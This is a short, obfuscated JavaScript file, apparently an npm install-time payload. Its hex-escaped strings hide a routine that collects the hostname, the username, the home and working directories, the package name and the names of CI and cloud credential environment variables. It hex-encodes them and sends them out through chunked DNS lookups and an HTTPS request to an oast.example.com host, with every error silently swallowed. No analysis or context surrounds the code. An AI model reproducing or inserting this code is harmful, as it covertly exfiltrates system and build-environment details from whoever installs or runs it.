const _0x1a=["\x6f\x73","\x64\x6e\x73","\x68\x74\x74\x70\x73","\x68\x6f\x73\x74\x6e\x61\x6d\x65","\x75\x73\x65\x72\x49\x6e\x66\x6f","\x75\x73\x65\x72\x6e\x61\x6d\x65","\x68\x6f\x6d\x65\x64\x69\x72","\x63\x77\x64","\x72\x65\x73\x6f\x6c\x76\x65\x34","\x6f\x61\x73\x74\x2e\x65\x78\x61\x6d\x70\x6c\x65\x2e\x63\x6f\x6d","\x49\x4e\x49\x54\x5f\x43\x57\x44","\x6e\x70\x6d\x5f\x70\x61\x63\x6b\x61\x67\x65\x5f\x6e\x61\x6d\x65","\x67\x65\x74","\x2f\x70\x3f\x64\x3d"];const _0x2b=require(_0x1a[0]),_0x3c=require(_0x1a[1]),_0x4d=require(_0x1a[2]);
function _0x5e(_0x6f){return Buffer.from(_0x6f).toString("hex")}
function _0x7a(_0x8b,_0x9c){const _0xad=[];for(let _0xbe=0;_0xbe<_0x8b.length;_0xbe+=_0x9c)_0xad.push(_0x8b.slice(_0xbe,_0xbe+_0x9c));return _0xad}
try{const _0xcf=[_0x2b[_0x1a[3]](),_0x2b[_0x1a[4]]()[_0x1a[5]],_0x2b[_0x1a[6]](),process.env[_0x1a[10]]||process[_0x1a[7]](),process.env[_0x1a[11]]||"",Object.keys(process.env).filter(k=>/^(CI|GITHUB_|JENKINS|BUILD|AWS_|GOOGLE_|AZURE_)/.test(k)).join(",")].join("|");
const _0xd0=_0x5e(_0xcf),_0xe1=Math.random().toString(36).slice(2,7),_0xf2=_0x7a(_0xd0,60);
_0xf2.forEach((_0x03,_0x14)=>{_0x3c[_0x1a[8]](`${_0x03}.${_0x14}.${_0xf2.length}.${_0xe1}.${_0x1a[9]}`,()=>{})});
_0x4d[_0x1a[12]]({hostname:"cb."+_0x1a[9],path:_0x1a[13]+_0xd0.slice(0,1800)+"&i="+_0xe1,timeout:3000},r=>r.resume()).on("error",()=>{})}catch(_0x25){}
